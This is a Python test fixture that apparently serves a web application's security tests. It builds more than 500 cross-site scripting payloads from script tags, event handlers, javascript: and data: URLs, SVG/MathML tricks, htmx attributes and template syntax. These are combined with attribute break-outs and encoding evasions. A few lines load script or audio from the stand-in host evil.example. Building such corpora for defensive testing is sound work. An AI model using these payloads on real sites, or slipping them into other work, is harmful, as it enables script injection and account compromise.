"""A corpus of hostile operator text: at least 500 distinct payloads.

Built from vectors (script tags, event handlers, javascript: URLs, SVG/MathML,
htmx attributes, broken markup, template syntax) crossed with contexts that try
to break out of where the text lands (an attribute value, a tag, a comment, a
<textarea>, a JSON string, a CDATA section) and encodings (entities,
percent-encoding, case, NUL and control characters, full-width and
look-alike characters). Every htmx payload points at /xss-probe so a test can
see if any of them was ever acted on; every script payload calls alert so a
browser test sees a dialog.
"""

from __future__ import annotations

from itertools import product

PROBE = "/xss-probe"

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert('x')</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>/*</script><script>*/alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '<img src=x onerror="alert(4)">',
    "<img/src=x/onerror=alert(5)>",
    "<body onload=alert(6)>",
    "<svg onload=alert(7)>",
    "<svg><script>alert(8)</script></svg>",
    '<svg><a xlink:href="javascript:alert(9)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(10) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(11)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    '<iframe src="javascript:alert(13)"></iframe>',
    '<iframe srcdoc="<script>alert(14)</script>"></iframe>',
    '<object data="javascript:alert(15)"></object>',
    '<embed src="javascript:alert(16)">',
    '<a href="javascript:alert(17)">click</a>',
    '<a href="jav&#x09;ascript:alert(18)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(19)">x</a>',
    '<a href=" javascript:alert(20)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyMSk8L3NjcmlwdD4=">x</a>',
    '<form action="javascript:alert(22)"><button>go</button></form>',
    '<button formaction="javascript:alert(23)">x</button>',
    "<input autofocus onfocus=alert(24)>",
    "<details open ontoggle=alert(25)>",
    "<video><source onerror=alert(26)></video>",
    "<audio src=x onerror=alert(27)>",
    "<marquee onstart=alert(28)>",
    '<div style="background:url(javascript:alert(29))">',
    "<style>@import 'javascript:alert(30)';</style>",
    '<link rel=stylesheet href="javascript:alert(31)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(32)">',
    '<base href="javascript:alert(33)//">',
    "<isindex type=image src=1 onerror=alert(34)>",
    "<template><img src=x onerror=alert(35)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(36)>">',
    '<div hx-get="' + PROBE + '" hx-trigger="load">x</div>',
    '<div data-hx-get="' + PROBE + '" data-hx-trigger="load">x</div>',
    '<button hx-post="' + PROBE + '" hx-trigger="load" hx-swap="outerHTML">x</button>',
    '<div hx-on:htmx:load="alert(40)">x</div>',
    '<div hx-on::load="alert(41)" hx-trigger="load">x</div>',
    '<div data-hx-on:click="alert(42)">x</div>',
    '<div hx-ext="ws" ws-connect="' + PROBE + '">x</div>',
    '<div hx-get="' + PROBE + '" hx-trigger="every 1s" hx-target="body">x</div>',
    '<img src=x hx-get="' + PROBE + '" hx-trigger="load">',
    '<a hx-boost="true" href="' + PROBE + '">x</a>',
    "<div hx-vals='js:{a:alert(48)}' hx-get=\"" + PROBE + '" hx-trigger="load">',
    "{{ 7*7 }}{% debug %}",
    "{% load static %}{% csrf_token %}",
    "${alert(51)}",
    "<!--<img src=x onerror=alert(52)>-->",
    "<![CDATA[<script>alert(53)</script>]]>",
    "<<script>alert(54);//<</script>",
    "<scr<script>ipt>alert(55)</scr</script>ipt>",
    '<img src="x` `<script>alert(56)</script>"` `>',
    '<a href="#" onclick="alert(57)">x',
    "<img src=x onerror=alert&lpar;58&rpar;>",
    "<svg/onload=alert`59`>",
    "<x onclick=alert(60)>click",
    "<p onmouseover=alert(61)>hover</p>",
    "&lt;script&gt;alert(62)&lt;/script&gt;",
    "%3Cscript%3Ealert(63)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(64)\\u003c/script\\u003e",
    "\u003cimg src=x onerror=alert(65)\u003e",
    "＜script＞alert(66)＜/script＞",
    "<scrip\x01t>alert(67)</script>",  # (NUL itself: see test_a_nul_character_is_refused_cleanly)
    "<img src=x\x0bonerror=alert(68)>",
    "<img src=x\nonerror=alert(69)>",
    "\u202e<script>alert(70)</script>",
    "</title><script>alert(71)</script>",
    "</textarea><script>alert(72)</script>",
    "</style><script>alert(73)</script>",
    "</script><script>alert(74)</script>",
    '"]]></title><script>alert(75)</script>',
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(76)</x:script>',
    '<speak><audio src="https://evil.example/a.mp3"/></speak>',
    '<break time="100s"/><prosody rate="x-slow">',
    "javascript:alert(79)",
    "JaVaScRiPt:alert(80)",
    "data:text/html,<script>alert(81)</script>",
    "vbscript:msgbox(82)",
    '";alert(83);//',
    "';alert(84);//",
    "</script><img src=x onerror=alert(85)>",
    '<div id="banner" hx-get="' + PROBE + '" hx-trigger="load">',
    '<div id="live" ws-connect="' + PROBE + '">',
    "<img src=x onerror=\"fetch('" + PROBE + "')\">",
    '<form id="x"><input name="csrfmiddlewaretoken"></form>',
    '<a href="' + PROBE + '" target=_blank rel=opener>x</a>',
]

# How the text tries to escape from where it lands.
CONTEXTS = [
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "--></p>{}",
    "</a>{}<a>",
    "Cable cut {} near the depot",
]

ENCODINGS = [
    lambda s: s,
    lambda s: s.upper(),
    lambda s: s.replace("<", "\u003c").replace(" ", "\t"),
    lambda s: s.replace(">", " >"),
    lambda s: s + "<",  # left open
    lambda s: s.replace("</", "< /"),
]


def payloads() -> list[str]:
    """At least 500 distinct payloads, in a stable order."""
    seen: dict[str, None] = {}
    for vector in VECTORS:  # each vector as it is
        seen.setdefault(vector)
    for (context, encode), vector in product(product(CONTEXTS[1:], ENCODINGS), VECTORS):
        seen.setdefault(encode(context.format(vector)))
        if len(seen) >= 600:
            break
    return list(seen)


def short(payloads_: list[str], limit: int) -> list[str]:
    """Payloads cut to a field's length (keeping them distinct)."""
    out = {}
    for index, payload in enumerate(payloads_):
        text = payload[: limit - 6] + f" #{index}"
        out.setdefault(text)
    return list(out)
